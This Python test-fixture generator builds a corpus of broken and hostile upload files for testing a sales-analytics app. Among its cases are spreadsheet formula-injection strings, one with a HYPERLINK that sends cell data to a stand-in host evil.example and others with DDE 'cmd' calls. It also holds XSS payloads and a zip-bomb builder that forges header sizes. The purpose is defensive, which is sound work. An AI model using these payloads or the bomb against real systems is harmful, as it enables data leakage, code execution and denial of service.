"""The bad-input corpus: hostile and broken files in every accepted format, generated here.

    python tests/bad_files.py [--out tests/data/bad]

Nothing in tests/data/bad/ is edited by hand: every file is made by one function below, from a
fixed seed, so the corpus is the same on every machine. ``CORPUS`` says for each file whether
MarketLens must refuse it (and with which words) or read it; tests/app/test_bad_files.py puts
every file through the CLI, the Data page and every analysis page.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

HERE = Path(__file__).resolve().parent
BAD_DIR = HERE / "data" / "bad"

HEADER = "InvoiceNo,CustomerID,InvoiceDate,StockCode,Description,Quantity,UnitPrice,Country"
PRODUCTS = [
    ("P1", "Blue mug"),
    ("P2", "Paper lamp"),
    ("P3", "Gift card"),
    ("P4", "Tea towel"),
    ("P5", "Candle set"),
]


@dataclass(frozen=True)
class Case:
    """One corpus file: how to make it, and ``refused`` (words of the error) or None (it loads)."""

    make: Callable[[], bytes]
    refused: str | None = None
    about: str = ""


def _rows(n_orders: int = 80, *, customers: int = 20, days: int = 60, seed: int = 0) -> list[list]:
    """Plausible order lines: a few lines per order, customers returning over two months."""
    rng = np.random.default_rng(seed)
    start = pd.Timestamp("2024-01-01 09:00")
    rows = []
    for order in range(n_orders):
        customer = f"C{rng.integers(customers):03d}"
        when = start + pd.Timedelta(days=int(rng.integers(days)), minutes=int(rng.integers(600)))
        for code, name in (PRODUCTS[i] for i in rng.choice(5, rng.integers(1, 4), replace=False)):
            price = {"P1": 3.5, "P2": 20.0, "P3": 10.0, "P4": 4.25, "P5": 12.0}[code]
            rows.append(
                [
                    f"A{order:04d}",
                    customer,
                    when.strftime("%Y-%m-%d %H:%M"),
                    code,
                    name,
                    int(rng.integers(1, 5)),
                    price,
                    ["FR", "DE", "UK"][order % 3],
                ]
            )
    return rows


def orders_frame(rows: list[list] | None = None) -> pd.DataFrame:
    """A clean little sales export (80 orders, 20 customers, 2 months): what the cases spoil."""
    return pd.DataFrame(rows if rows is not None else _rows(), columns=HEADER.split(","))


def tagged_orders_csv(prefix: str) -> bytes:
    """The clean export with every customer id and product name starting with ``prefix``, so a
    test can tell whose data a page shows."""
    frame = orders_frame()
    frame["CustomerID"] = prefix + frame["CustomerID"]
    frame["Description"] = prefix + frame["Description"]
    return frame.to_csv(index=False).encode()


def _csv(frame: pd.DataFrame, *, encoding: str = "utf-8", **kwargs) -> bytes:
    return frame.to_csv(index=False, **kwargs).encode(encoding)


def _orders_csv(change: Callable[[pd.DataFrame], pd.DataFrame], **kwargs) -> Callable[[], bytes]:
    return lambda: _csv(change(orders_frame()), **kwargs)


def _xlsx(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    # Strings stay strings: "=1+1" is written as the text a malicious export would carry.
    with pd.ExcelWriter(
        buffer,
        engine="xlsxwriter",
        engine_kwargs={"options": {"strings_to_formulas": False, "strings_to_urls": False}},
    ) as writer:
        frame.to_excel(writer, index=False)
    return buffer.getvalue()


def _ods(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="odf") as writer:
        frame.to_excel(writer, index=False)
    return buffer.getvalue()


def _parquet(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


# --- hostile cell contents ----------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    '=cmd|"/c calc"!A1',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
HTML = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<b>bold</b>",
    '"><svg onload=alert(1)>',
    "**bold** [link](http://evil.example)",
]


def _with_names(names: list[str]) -> Callable[[pd.DataFrame], pd.DataFrame]:
    """Put hostile strings into the product names, customer ids and countries."""

    def change(frame: pd.DataFrame) -> pd.DataFrame:
        frame = frame.copy()
        codes = sorted(frame["StockCode"].unique())
        mapping = {code: names[i % len(names)] + f" {i}" for i, code in enumerate(codes)}
        frame["Description"] = frame["StockCode"].map(mapping)
        frame["Country"] = [names[i % len(names)] for i in range(len(frame))]
        frame.loc[frame.index[:5], "CustomerID"] = [names[i % len(names)] for i in range(5)]
        return frame

    return change


def formula_frame() -> pd.DataFrame:
    """The orders with spreadsheet formulas in text cells and in a column name."""
    return _with_names(FORMULAS)(orders_frame()).rename(columns={"Country": "=Country"})


def html_frame() -> pd.DataFrame:
    """The orders with markup in names, values and a column name."""
    return _with_names(HTML)(orders_frame()).rename(columns={"Country": "<script>x</script>"})


# --- structures --------------------------------------------------------------------------------


def _mixed_dates(frame: pd.DataFrame) -> pd.DataFrame:
    stamps = pd.to_datetime(frame["InvoiceDate"])
    formats = ["%Y-%m-%d %H:%M", "%d/%m/%Y", "%B %d, %Y", "%Y%m%d", "%d.%m.%y %H:%M"]
    frame = frame.copy()
    frame["InvoiceDate"] = [s.strftime(formats[i % 5]) for i, s in enumerate(stamps)]
    return frame


def _far_dates(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.loc[frame.index[0], "InvoiceDate"] = "1900-01-01 00:00"
    frame.loc[frame.index[1], "InvoiceDate"] = "2200-12-31 23:00"
    return frame


def _text_in_numbers(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.astype({"Quantity": object, "UnitPrice": object})
    frame.loc[frame.index[::7], "Quantity"] = "two"
    frame.loc[frame.index[::5], "UnitPrice"] = "n/a"
    frame.loc[frame.index[::11], "UnitPrice"] = "free"
    return frame


def _thousands(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame["UnitPrice"] = [f"{p * 1000:,.2f}" for p in frame["UnitPrice"]]
    frame["Quantity"] = [f"{q * 1000:,}" for q in frame["Quantity"]]
    return frame


def _negative_prices(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.loc[frame.index[::3], "UnitPrice"] = -frame["UnitPrice"]
    frame.loc[frame.index[1::3], "UnitPrice"] = 0.0
    return frame


def _column(name: str, value: object) -> Callable[[pd.DataFrame], pd.DataFrame]:
    return lambda frame: frame.assign(**{name: value})


def _blank_headers(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.columns = ["InvoiceNo", "", "InvoiceDate", "StockCode", "", "Quantity", "Quantity", ""]
    return frame


def _empty_columns(frame: pd.DataFrame) -> pd.DataFrame:
    return frame.assign(Notes=None, Segment=None, Extra=None)


def _big_cells(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.head(20).copy()
    frame.loc[frame.index[:3], "Description"] = "x" * 1_000_000
    return frame


def _emoji_rtl(frame: pd.DataFrame) -> pd.DataFrame:
    names = ["🎁 هدية", "כוס כחולה ☕", "\u202eevil\u202c", "👨‍👩‍👧 famille", "ลูกค้า"]
    return _with_names(names)(frame)


def _short_rows(n: int) -> Callable[[], bytes]:
    def make() -> bytes:
        ids = np.arange(n) % 9973
        return b"id,v\n" + "\n".join(f"{i},{i % 7}" for i in ids).encode() + b"\n"

    return make


def _wide(n_columns: int) -> bytes:
    header = ",".join(f"c{i}" for i in range(n_columns))
    row = ",".join(str(i % 10) for i in range(n_columns))
    return f"{header}\n{row}\n{row}\n{row}\n".encode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_BOMB_BYTES = 2 * 1024**3  # what the sheet expands to: 2 GiB of blanks, legal XML whitespace


def _bomb(*, forge_sizes: bool) -> bytes:
    """A real xlsx (a sample's workbook) whose sheet expands to 2 GiB of whitespace.

    With ``forge_sizes`` the zip headers claim the sheet is 1 KB, as a hostile file would, so a
    check that trusts declared sizes lets it through; the sheet is then 1.5 GiB (no ZIP64).
    """
    template = zipfile.ZipFile(io.BytesIO(_xlsx(orders_frame().head(3))))
    sheet = "xl/worksheets/sheet1.xml"
    size = (3 * 1024**3) // 2 if forge_sizes else _BOMB_BYTES
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in template.infolist():
            if info.filename != sheet:
                archive.writestr(info.filename, template.read(info.filename))
        with archive.open(sheet, "w", force_zip64=not forge_sizes) as member:
            member.write(_SHEET_HEAD)
            blank = b" " * (1 << 20)
            for _ in range((size - len(_SHEET_HEAD) - 24) // len(blank)):
                member.write(blank)
            member.write(b"</sheetData></worksheet>")
    data = bytearray(buffer.getvalue())
    if forge_sizes:
        _forge_size(data, sheet.encode(), 1024)
    return bytes(data)


def _forge_size(data: bytearray, name: bytes, size: int) -> None:
    """Overwrite a member's uncompressed size in its local and central zip headers."""
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, size)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)


def _nested_parquet() -> bytes:
    frame = orders_frame()
    table = pa.Table.from_pandas(frame, preserve_index=False)
    lines = pa.array([[{"sku": "P1", "qty": 2}]] * len(frame))
    tags = pa.array([{"channel": "web", "tags": ["a", "b"]}] * len(frame))
    return _parquet(table.append_column("lines", lines).append_column("meta", tags))


def _long_parquet(n: int) -> bytes:
    return _parquet(pa.table({"id": pa.array(np.arange(n) % 1000), "v": pa.array(np.ones(n))}))


CORPUS: dict[str, Case] = {
    # empty and shapeless
    "empty.csv": Case(lambda: b"", "is empty"),
    "blank_lines.csv": Case(lambda: b"\n\n  \r\n\n", "is empty"),
    "bom_only.csv": Case(lambda: b"\xef\xbb\xbf", "no readable lines"),
    "header_only.csv": Case(lambda: HEADER.encode() + b"\n", "no rows"),
    "only_delimiters.csv": Case(lambda: b",,,\n,,,\n,,,\n", "every cell is empty"),
    "header_only.xlsx": Case(lambda: _xlsx(orders_frame().head(0)), "no rows"),
    "empty_sheet.xlsx": Case(lambda: _xlsx(pd.DataFrame()), "no sheet with data"),
    "zero_rows.parquet": Case(
        lambda: _parquet(pa.table({"a": pa.array([], pa.int64())})), "no rows"
    ),
    # not what the name says
    "binary_junk.csv": Case(
        lambda: np.random.default_rng(1).integers(0, 256, 50_000, dtype=np.uint8).tobytes(),
        "binary",
    ),
    "text_named.xlsx": Case(lambda: _csv(orders_frame()), "not one"),
    "zip_of_text.xlsx": Case(lambda: _zip({"notes.txt": b"hello\n" * 100}), "zip archive"),
    "truncated.xlsx": Case(lambda: _xlsx(orders_frame())[:3000], "damaged"),
    "ole_junk.xls": Case(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000, "workbook"),
    "text_named.parquet": Case(lambda: _csv(orders_frame()), "not a Parquet"),
    "truncated.parquet": Case(
        lambda: _parquet(pa.Table.from_pandas(orders_frame()))[:-200], "damaged"
    ),
    "orders.json": Case(lambda: b'[{"a": 1}]', "does not read .json"),
    # too big
    "bomb.xlsx": Case(lambda: _bomb(forge_sizes=False), "would expand"),
    "bomb_forged_sizes.xlsx": Case(lambda: _bomb(forge_sizes=True), "would expand"),
    "columns_20000.csv": Case(lambda: _wide(20_000), "columns"),
    "rows_2000000.csv": Case(_short_rows(2_000_000), about="at the row limit: read"),
    "rows_2000001.csv": Case(_short_rows(2_000_001), "reads up to 2,000,000"),
    "rows_2000001.parquet": Case(lambda: _long_parquet(2_000_001), "reads up to 2,000,000"),
    # odd shapes that read
    "one_column.csv": Case(lambda: b"email\n" + b"".join(b"a%d@x.org\n" % i for i in range(30))),
    "one_row.csv": Case(lambda: _csv(orders_frame().head(1))),
    "all_empty_columns.csv": Case(_orders_csv(_empty_columns)),
    "duplicate_blank_headers.csv": Case(_orders_csv(_blank_headers)),
    "mixed_date_formats.csv": Case(_orders_csv(_mixed_dates)),
    "dates_1900_2200.csv": Case(_orders_csv(_far_dates)),
    "text_in_numbers.csv": Case(_orders_csv(_text_in_numbers)),
    "thousands_separators.csv": Case(_orders_csv(_thousands)),
    "negative_zero_prices.csv": Case(_orders_csv(_negative_prices)),
    "all_quantities_zero.csv": Case(_orders_csv(_column("Quantity", 0))),
    "one_customer.csv": Case(_orders_csv(_column("CustomerID", "C001"))),
    "one_date.csv": Case(_orders_csv(_column("InvoiceDate", "2024-05-01 10:00"))),
    "unbalanced_quotes.csv": Case(
        lambda: (
            _csv(orders_frame()).replace(b"Blue mug", b'Blue "mug', 1).replace(b"FR\n", b'"FR\n', 3)
        )
    ),
    "quoted_newlines.csv": Case(
        _orders_csv(lambda f: f.assign(Description=f["Description"] + '\nsecond line, "quoted"'))
    ),
    "cr_line_endings.csv": Case(_orders_csv(lambda f: f, lineterminator="\r")),
    "utf16_no_bom.csv": Case(_orders_csv(_emoji_rtl, encoding="utf-16-le")),
    "gbk_no_bom.csv": Case(
        _orders_csv(_with_names(["蓝色杯子", "纸灯", "礼品卡", "茶巾"]), encoding="gbk")
    ),
    "latin1.csv": Case(
        _orders_csv(_with_names(["Café crème", "Größe", "Niño"]), encoding="latin-1")
    ),
    "nul_bytes.csv": Case(lambda: _csv(orders_frame()).replace(b"mug", b"m\x00ug")),
    "cells_1mb.csv": Case(_orders_csv(_big_cells)),
    "emoji_rtl.csv": Case(_orders_csv(_emoji_rtl)),
    "semicolon_decimal_comma.txt": Case(_orders_csv(lambda f: f, sep=";", decimal=",")),
    "tabs.tsv": Case(_orders_csv(lambda f: f, sep="\t")),
    # content that must never run
    "formulas.csv": Case(lambda: _csv(formula_frame(), quoting=csv.QUOTE_NONNUMERIC)),
    "formulas.xlsx": Case(lambda: _xlsx(formula_frame())),
    "formulas.ods": Case(lambda: _ods(formula_frame())),
    "html.csv": Case(lambda: _csv(html_frame())),
    "html.xlsx": Case(lambda: _xlsx(html_frame())),
    "html.parquet": Case(lambda: _parquet(pa.Table.from_pandas(html_frame()))),
    "nested.parquet": Case(_nested_parquet),
}


def write_corpus(out: Path = BAD_DIR) -> list[Path]:
    """Write every corpus file into ``out``; return their paths.

    Files written by this same version of the script are kept (the bombs take seconds to make).
    """
    out.mkdir(parents=True, exist_ok=True)
    stamp = out / ".made-by"
    version = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    fresh = stamp.exists() and stamp.read_text() == version
    paths = []
    for name, case in CORPUS.items():
        path = out / name
        if not (fresh and path.exists()):
            path.write_bytes(case.make())
        paths.append(path)
    stamp.write_text(version)
    return paths


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=BAD_DIR)
    for written in write_corpus(parser.parse_args().out):
        print(f"{written.stat().st_size:>12,}  {written.name}")
